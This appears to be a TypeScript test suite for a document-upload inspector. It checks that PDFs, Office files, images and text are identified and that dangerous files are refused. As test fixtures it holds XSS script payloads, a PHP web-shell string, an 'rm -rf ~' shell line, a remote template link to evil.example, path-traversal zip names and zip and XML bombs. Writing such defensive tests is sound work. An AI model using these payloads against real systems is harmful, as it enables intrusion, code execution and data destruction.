import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateRawSync } from "node:zlib";
import { createCanvas, loadImage } from "@napi-rs/canvas";
import ExifReader from "exifreader";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { docxOf, odtOf } from "../../knowledge/read/fixtures/office-of.ts";
import { pdfOfObjects } from "../../knowledge/read/fixtures/pdf-of.ts";
import { zipOf } from "../../knowledge/read/fixtures/zip-of.ts";
import { exifOf, jpegWith, pictureOf, pngClaiming } from "../fixtures/picture-of.ts";
import { UploadFault } from "../upload-fault.ts";
import { closeInspectors, type FileToInspect, inspect } from "./inspecting.ts";

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "magistrat-inspect-"));
});
afterAll(async () => {
  closeInspectors();
  await rm(folder, { recursive: true, force: true });
});

async function look(bytes: Uint8Array | string, more: Partial<FileToInspect> = {}) {
  const path = join(folder, crypto.randomUUID());
  await writeFile(path, bytes);
  try {
    return await inspect({ path, kinds: null, shrink: false, ...more });
  } finally {
    await rm(path);
  }
}

/** What becomes of a file: its kind, or why it is not taken. Any other error fails the test. */
async function outcome(bytes: Uint8Array | string, more: Partial<FileToInspect> = {}): Promise<string> {
  try {
    return (await look(bytes, more)).kind;
  } catch (error) {
    if (error instanceof UploadFault) return error.code;
    throw error;
  }
}

const joined = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)));
/** Where the header of the frame of a JPEG begins. */
const frameOf = (jpeg: Buffer) => jpeg.indexOf(Buffer.from("ffc0", "hex"));
const changed = (bytes: Buffer, change: (bytes: Buffer) => void) => {
  change(bytes);
  return bytes;
};
const PDF = pdfOfObjects(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"]);
const DOCX = docxOf("<w:p/>");
const types = (type: string) =>
  `<Types><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`;
const XLSX = zipOf({
  "[Content_Types].xml": types("spreadsheetml.sheet.main+xml"),
  "xl/workbook.xml": "<workbook/>",
});
const SCRIPT = "<script>alert(document.domain)</script>";

describe("what an office takes", () => {
  it.each([
    ["a PDF", PDF, "pdf"],
    ["a Word document", DOCX, "docx"],
    ["a sheet of Excel", XLSX, "xlsx"],
    ["an OpenDocument text", odtOf("<p/>"), "odt"],
    [
      "an OpenDocument sheet",
      zipOf({ mimetype: "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>" }),
      "ods",
    ],
    ["a JPEG", pictureOf("jpeg"), "jpeg"],
    ["a PNG", pictureOf("png"), "png"],
    ["a WebP", pictureOf("webp"), "webp"],
    ["a plain text", "Zażółć gęślą jaźń\r\n", "txt"],
  ])("is %s", async (_, bytes, kind) => {
    expect(await outcome(bytes)).toBe(kind);
  });

  it.each([
    "city/knowledge/prawo/regulamin-strefy-platnego-parkowania.pdf",
    "city/knowledge/uslugi/karta-zaswiadczenie-o-niezaleganiu.docx",
    "tests/scans/fax.pdf",
  ])("is what programs really write: %s", async (path) => {
    expect(await outcome(await readFile(path))).toBe(path.split(".").at(-1));
  });

  it.each([
    ["nothing", "", "empty"],
    ["an archive", zipOf({ "a.txt": "a" }), "unsupported"],
    ["a program", joined("MZ\x90\0\x03\0\0\0"), "unsupported"],
    ["a GIF", joined("GIF89a\x01\0\x01\0\0\0\0;"), "unsupported"],
    ["a drawing that runs scripts", `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, "polyglot"],
    ["a page", `<!DOCTYPE html><html><body>${SCRIPT}`, "polyglot"],
    ["the photo of an iPhone as its camera keeps it", joined("\0\0\0\x18ftypheic\0\0\0\0mif1"), "heic"],
    ["an old Word document", joined(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)), "old-office"],
    [
      "a Word document with a password",
      joined(
        Buffer.from("d0cf11e0a1b11ae1", "hex"),
        Buffer.alloc(600),
        Buffer.from("EncryptedPackage", "utf16le"),
      ),
      "encrypted",
    ],
    [
      "a JPEG for a printing press",
      changed(pictureOf("jpeg"), (jpeg) => jpeg.writeUInt8(4, frameOf(jpeg) + 9)),
      "unsupported",
    ],
    [
      "a WebP that moves",
      joined("RIFF\x10\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\x3b\0\0\x3b\0\0"),
      "unsupported",
    ],
    ["half a PDF", PDF.subarray(0, 80), "broken"],
    ["half a Word document", DOCX.subarray(0, DOCX.length / 2), "broken"],
    ["half a PNG", pictureOf("png").subarray(0, 60), "broken"],
  ])("is not %s", async (_, bytes, code) => {
    expect(await outcome(bytes)).toBe(code);
  });

  it("is what the question asks for, where it asks for certain kinds", async () => {
    expect(await outcome(PDF, { kinds: ["jpeg", "png"] })).toBe("not-wanted");
    expect(await outcome(pictureOf("png"), { kinds: ["jpeg", "png"] })).toBe("png");
  });

  it("says of a document that it opens with a password only", async () => {
    const locked = pdfOfObjects(["<</Type/Catalog>>", "<</Filter/Standard/V 2>>"], "/Encrypt 2 0 R");
    expect(await look(locked)).toMatchObject({ kind: "pdf", encrypted: true });
    expect(await look(PDF)).toMatchObject({ kind: "pdf", encrypted: false });
    const manifest = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>";
    expect(await look(odtOf("<p/>", { "META-INF/manifest.xml": manifest }))).toMatchObject({
      encrypted: true,
    });
  });

  it("is a text in the letters of today, whatever it was written in", async () => {
    const windows = Buffer.from([0x5a, 0x61, 0xbf, 0xf3, 0xb3, 0xe6]);
    expect(Buffer.from((await look(windows)).content ?? []).toString()).toBe("Zażółć");
    const utf16 = joined(Buffer.from([0xff, 0xfe]), Buffer.from("Zażółć", "utf16le"));
    expect(Buffer.from((await look(utf16)).content ?? []).toString()).toBe("Zażółć");
  });
});

describe("a file that is two things at once is refused", () => {
  const zipEnd = zipOf({ "run.js": "alert(1)" });
  /** A zip whose last record takes the end of the PDF around it for its comment. */
  const zipWithin = () => {
    const after = "\nendstream\nendobj\nstartxref\n9\n%%EOF\n";
    const zip = Buffer.from(zipEnd);
    zip.writeUInt16LE(after.length, zip.length - 2);
    return joined("%PDF-1.7\n1 0 obj\n<<>>\nstream\n", zip, after);
  };
  it.each([
    ["a PDF with a page behind it", joined(PDF, `\n<html>${SCRIPT}`)],
    [
      "a PDF with a page behind it and the end of a PDF behind that",
      joined(PDF, `\n<html>${SCRIPT}\nstartxref\n9\n%%EOF`),
    ],
    ["a PDF with a script behind it", joined(PDF, "\n;alert(1)//")],
    ["a PDF with a zip behind it", joined(PDF, zipEnd)],
    ["a PDF with a zip in it", zipWithin()],
    ["a page in the first line of a PDF", joined(`%PDF-1.7 ${SCRIPT}\n`, PDF.subarray(9))],
    ["a zip with a PDF before it", joined(zipOf({ a: "a" }), PDF)],
    ["a Word document with something behind it", joined(DOCX, SCRIPT)],
    ["a picture that is a script", "GIF89a/*\u00a0*/=1;alert(1)//"],
    ["a text that is a program", "#!/bin/sh\nrm -rf ~\n"],
    ["a text with a page in it", `Dzień dobry\n${SCRIPT}`],
  ])("%s", async (_, bytes) => {
    expect(await outcome(bytes)).toMatch(/^(?:polyglot|broken)$/);
  });

  it("or is made anew: nothing of what was hidden in a picture is left", async () => {
    const hidden = "<?php system($_GET[1]);/*GIFAR*/";
    for (const picture of [
      joined(pictureOf("jpeg"), zipEnd, hidden),
      jpegWith(Buffer.from(hidden)),
      joined(pictureOf("png"), hidden),
      joined(pictureOf("webp"), hidden),
    ]) {
      const { content } = await look(picture);
      const text = Buffer.from(content ?? []).toString("latin1");
      expect(text).not.toContain("php");
      expect(text).not.toContain("PK\x03\x04");
      expect(content?.length).toBeGreaterThan(100);
    }
  });
});

describe("a document that runs something is refused", () => {
  it.each([
    ["a macro of Word", docxOf("<w:p/>", { "word/vbaProject.bin": "x" })],
    [
      "a macro that its name hides",
      zipOf({
        "[Content_Types].xml":
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    ],
    [
      "a macro sheet of Excel",
      zipOf({
        "[Content_Types].xml": types("spreadsheetml.sheet.main+xml"),
        "xl/macrosheets/sheet1.xml": "<a/>",
      }),
    ],
    ["a macro of LibreOffice", odtOf("<p/>", { "Basic/Standard/Module1.xml": "<a/>" })],
    [
      "a template from elsewhere",
      docxOf("<w:p/>", {
        "word/_rels/settings.xml.rels":
          '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      }),
    ],
  ])("%s", async (_, bytes) => {
    expect(await outcome(bytes)).toBe("macros");
  });

  it("but not one that names the template on its author's disk", async () => {
    const relations =
      '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="file:///C:\\Szablony\\pismo.dotx" TargetMode="External"/></Relationships>';
    expect(await outcome(docxOf("<w:p/>", { "word/_rels/settings.xml.rels": relations }))).toBe("docx");
  });
});

describe("a bomb is refused before it goes off", () => {
  it("of dots: 50,000 by 50,000, and everything else that no camera makes", async () => {
    const began = performance.now();
    expect(await outcome(pngClaiming(50_000, 50_000))).toBe("dots");
    expect(performance.now() - began).toBeLessThan(5_000);
    expect(await outcome(pngClaiming(30_000, 10))).toBe("dots");
    const jpeg = changed(pictureOf("jpeg"), (bytes) => {
      bytes.writeUInt16BE(50_000, frameOf(bytes) + 5);
      bytes.writeUInt16BE(50_000, frameOf(bytes) + 7);
    });
    expect(await outcome(jpeg)).toBe("dots");
  });

  it("of a zip: denser than any document, or larger than any, or in more parts", async () => {
    const zeros = Buffer.alloc(40 * 1024 * 1024);
    expect(await outcome(docxOf("", { "word/media/a.bmp": zeros }))).toBe("bomb");
    const many = Object.fromEntries(Array.from({ length: 5_001 }, (_, at) => [`word/${at}.xml`, ""]));
    expect(await outcome(docxOf("", many))).toBe("bomb");
  });

  it("of a zip that lies about its sizes", async () => {
    const parts = {
      "[Content_Types].xml": types("wordprocessingml.document.main+xml"),
      "a.xml": "a".repeat(100_000),
    };
    expect(await outcome(zipOf(parts, { "a.xml": 10 }))).toBe("broken");
  });

  it("of a zip whose parts are the same bytes", async () => {
    const zip = Buffer.from(
      zipOf({ "[Content_Types].xml": types("wordprocessingml.document.main+xml"), b: "b" }),
    );
    const second = zip.lastIndexOf(Buffer.from("PK\x01\x02"));
    const first = zip.indexOf(Buffer.from("PK\x01\x02"));
    for (const at of [16, 20, 24]) zip.copyWithin(second + at, first + at, first + at + 4);
    expect(await outcome(zip)).toMatch(/bomb|broken/);
  });

  it("of entities", async () => {
    const bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>';
    expect(await outcome(docxOf("", { "word/styles.xml": bomb }))).toBe("bomb");
  });

  it.each(["../../../etc/cron.d/x", "/etc/passwd", "..\\..\\windows\\x", "C:/x"])(
    "of a zip with the path %j",
    async (name) => {
      expect(await outcome(docxOf("", { [name]: "x" }))).toBe("broken");
    },
  );

  it("of deflated nothing in a picture", async () => {
    const png = pictureOf("png");
    const chunk = joined("zTXtComment\0\0", deflateRawSync(Buffer.alloc(50_000_000)));
    expect(await outcome(joined(png.subarray(0, 33), chunk, png.subarray(33)))).toMatch(/png|broken/);
  });
});

describe("a photo", () => {
  it("gives the place where it was taken, and keeps nothing that the camera noted", async () => {
    const photo = jpegWith(exifOf({ lat: 49.822_118, lon: 19.044_391, orientation: 1 }));
    expect(ExifReader.load(photo, { expanded: true }).gps?.Latitude).toBeCloseTo(49.822_118, 5);
    const { place, content } = await look(photo);
    expect(place?.lat).toBeCloseTo(49.822_118, 5);
    expect(place?.lon).toBeCloseTo(19.044_391, 5);
    const kept = Buffer.from(content ?? []);
    expect(kept.includes("TAJNY-APARAT")).toBe(false);
    expect(ExifReader.load(kept, { expanded: true }).exif).toBeUndefined();
    expect(ExifReader.load(kept, { expanded: true }).gps).toBeUndefined();
  });

  it("of the other half of the world has its signs right", async () => {
    const { place } = await look(jpegWith(exifOf({ lat: -33.8568, lon: -70.6483, orientation: 1 })));
    expect(place?.lat).toBeCloseTo(-33.8568, 4);
    expect(place?.lon).toBeCloseTo(-70.6483, 4);
  });

  it("without a place offers none", async () => {
    expect((await look(pictureOf("jpeg"))).place).toBeNull();
    expect((await look(jpegWith(exifOf({ lat: 0, lon: 0, orientation: 1 })))).place).toBeNull();
    expect((await look(jpegWith(Buffer.from("II*\0\xff\xff\xff\xff", "latin1")))).place).toBeNull();
  });

  it.each([1, 2, 3, 4, 5, 6, 7, 8])(
    "stands upright, however the camera was held: %i",
    async (orientation) => {
      const made = await look(jpegWith(exifOf({ lat: 1, lon: 1, orientation })));
      const [width, height] = orientation >= 5 ? [80, 120] : [120, 80];
      expect([made.width, made.height]).toEqual([width, height]);
      const corners = await cornersOf(made.content ?? new Uint8Array());
      expect(corners).toEqual(CORNERS[orientation]);
    },
  );

  it("is made smaller where that was asked, and never larger", async () => {
    const large = pictureOf("jpeg", 4_000, 3_000);
    const shrunk = await look(large, { shrink: true });
    expect([shrunk.width, shrunk.height]).toEqual([2_400, 1_800]);
    expect(shrunk.content?.length).toBeLessThan(large.length);
    const small = await look(pictureOf("png"), { shrink: true });
    expect([small.width, small.height]).toEqual([120, 80]);
  });
});

/** Where the white corner, the red and the blue half are, by EXIF's table of the eight ways. */
const CORNERS: Record<number, string[]> = {
  1: ["white", "blue", "red", "blue"],
  2: ["blue", "white", "blue", "red"],
  3: ["blue", "red", "blue", "white"],
  4: ["red", "blue", "white", "blue"],
  5: ["white", "red", "blue", "blue"],
  6: ["red", "white", "blue", "blue"],
  7: ["blue", "blue", "red", "white"],
  8: ["blue", "blue", "white", "red"],
};

async function cornersOf(bytes: Uint8Array): Promise<string[]> {
  const image = await loadImage(Buffer.from(bytes));
  const context = createCanvas(image.width, image.height).getContext("2d");
  context.drawImage(image, 0, 0);
  const [right, bottom] = [image.width - 6, image.height - 6];
  return [
    [5, 5],
    [right, 5],
    [5, bottom],
    [right, bottom],
  ].map(([x, y]) => {
    const [red = 0, green = 0, blue = 0] = context.getImageData(x as number, y as number, 1, 1).data;
    return green > 128 ? "white" : red > blue ? "red" : "blue";
  });
}

it("any bytes give a kind or a fault and never another error", async () => {
  const samples = [PDF, DOCX, XLSX, pictureOf("jpeg"), pictureOf("png"), pictureOf("webp")];
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...samples),
      fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }),
      fc.nat(),
      async (sample, changes, cut) => {
        const bytes = Buffer.from(sample.subarray(0, cut % 3 === 0 ? cut % sample.length : sample.length));
        for (const [at, value] of changes) if (bytes.length > 0) bytes[at % bytes.length] = value;
        expect(await outcome(bytes)).toMatch(/^[a-z-]+$/);
      },
    ),
    { numRuns: 150 },
  );
});
